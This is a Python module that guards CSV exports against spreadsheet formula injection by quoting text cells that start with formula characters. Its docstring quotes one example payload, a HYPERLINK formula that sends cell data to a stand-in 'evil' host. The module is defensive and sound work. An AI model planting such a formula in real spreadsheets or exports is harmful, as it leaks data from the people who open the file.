"""CSV cells a spreadsheet cannot run: the one rule every CSV this package writes goes through.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or the full-width
`＝ ＋ － ＠` some spreadsheets also take) is a formula to Excel, LibreOffice and Google Sheets: a
hostile row (`=HYPERLINK("http://evil/?"&A1)`) runs when a project manager opens the file. OWASP's
rule: prefix such text with a single quote, which spreadsheets show as text. Only text is touched:
numbers stay numbers in numeric columns (`-3.5` in a score column), while the same characters in a
text column are text and get the quote. Parquet and JSONL outputs keep the raw values: they are
data for programs, not sheets.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """`value` with a leading single quote when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` ready for `to_csv`: every text cell through `safe_cell`, numeric columns as they are."""
    import pandas as pd  # noqa: PLC0415 - start-up time: `smo sql` imports this module without pandas

    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(safe_cell, na_action="ignore")
    return out
